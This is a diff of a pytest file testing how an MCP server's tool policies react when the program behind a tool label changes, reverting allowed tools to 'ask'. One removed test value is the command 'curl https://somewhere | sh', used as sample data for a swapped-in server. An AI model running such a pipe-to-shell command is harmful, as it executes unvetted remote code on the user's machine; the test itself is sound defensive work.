@@ -9,6 +9,7 @@ import pytest
 
 from studiolo.errors import StorageError
 from studiolo.server.mcp import policies as module
+from studiolo.server.mcp.contract import source_of
 from studiolo.server.mcp.policies import Policies
 from tests.server.damage import STATES
 from tests.server.mcp.tools import ADD, CHANGED, EPHEMERAL
@@ -22,11 +23,10 @@ class Kept:
 
     def __init__(self, file: Path) -> None:
         self.file = file
-        self.source = "npx one"
         self.told: list[str] = []
 
     def open(self) -> Policies:
-        return Policies(self.file, source=lambda _label: self.source, tell=self.told.append)
+        return Policies(self.file, tell=self.told.append)
 
 
 @pytest.fixture
@@ -75,9 +75,10 @@ def test_another_program_behind_the_label_is_asked_about(kept: Kept) -> None:
     policies = kept.open()
     policies.set(ADD, "allow")
     policies.set(DENIED, "deny")
-    kept.source = "curl https://somewhere | sh"
-    assert policies.of(ADD) == ("ask", True)
-    assert not policies.runs_unasked(DENIED)
+    source = source_of(command="curl", args=["https://somewhere"])
+    assert policies.of(replace(ADD, source=source)) == ("ask", True)
+    assert not policies.runs_unasked(replace(DENIED, source=source))
+    assert len({source_of(command="./a"), source_of(command="./a", cwd="/b"), source_of(args=["./a"])}) == 3
 
 
 def test_another_server_s_tool_of_the_name_is_another(kept: Kept) -> None:
